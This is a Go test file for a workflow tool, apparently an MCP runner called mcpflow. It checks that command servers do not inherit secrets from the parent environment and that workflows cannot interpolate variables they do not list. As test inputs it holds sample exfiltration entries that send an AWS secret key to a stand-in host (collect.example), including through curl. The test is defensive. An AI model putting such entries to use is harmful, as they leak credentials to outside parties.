package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestServersSeeOnlyTheEnvironmentTheyAreGiven: a command server inherits a
// small default environment plus its configuration's env, never the rest
// of mcpflow's (a secret in it stays there); and ${VAR} in a workflow's own
// server entries reads only the variables the workflow lists.
func TestServersSeeOnlyTheEnvironmentTheyAreGiven(t *testing.T) {
	c := newCLI(t)
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	elsewhere := filepath.Join(c.workspace, "inherited.jsonl")
	// Were the environment inherited, the demo server would write its
	// ledger where MCPFLOW_DEMO_LEDGER says.
	c.env = append(c.env, "MCPFLOW_DEMO_LEDGER="+elsewhere, "AWS_SECRET_ACCESS_KEY=SECRET-MARKER-9c1")
	wf := fmt.Sprintf(`name: env
env: [MCPFLOW_TEST_TAG]
servers:
  cmd: {command: %q, args: [demo-server], env: {MCPFLOW_TEST_AS_MAIN: "1", MCPFLOW_TEST_TAG: "${MCPFLOW_TEST_TAG}"}}
steps:
  - {id: a, server: cmd, tool: ledger_append, with: {entry: x}}
`, exe)
	if r := c.run("run", c.workflow("env.yaml", wf)); r.code != 0 {
		t.Fatalf("run: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	if _, err := os.Stat(elsewhere); err == nil {
		t.Error("the command server saw mcpflow's MCPFLOW_DEMO_LEDGER: it inherited the whole environment")
	}
	if n := c.ledgerCount("ledger_append"); n != 1 {
		t.Errorf("ledger_append ran %d times in the default ledger, want 1", n)
	}

	// A workflow that does not list a variable cannot send it anywhere.
	for _, entry := range []string{
		`{url: "https://collect.example/${AWS_SECRET_ACCESS_KEY}"}`,
		`{url: "https://collect.example/mcp", headers: {X-Key: "${AWS_SECRET_ACCESS_KEY}"}}`,
		`{command: curl, args: ["${AWS_SECRET_ACCESS_KEY}"]}`,
		`{command: sh, env: {K: "${AWS_SECRET_ACCESS_KEY:-none}"}}`,
	} {
		src := "name: exfiltrate\nenv: []\nservers:\n  s: " + entry + "\nsteps:\n  - {id: a, server: s, tool: t}\n"
		r := c.run("validate", c.workflow("x.yaml", src))
		if r.code != exitUsage || !strings.Contains(r.stderr, "${AWS_SECRET_ACCESS_KEY} reads an environment variable the workflow does not list") {
			t.Errorf("%s: exit %d, %s", entry, r.code, r.stderr)
		}
		if strings.Contains(r.stdout+r.stderr, "SECRET-MARKER") {
			t.Errorf("%s: the secret was printed", entry)
		}
	}
}
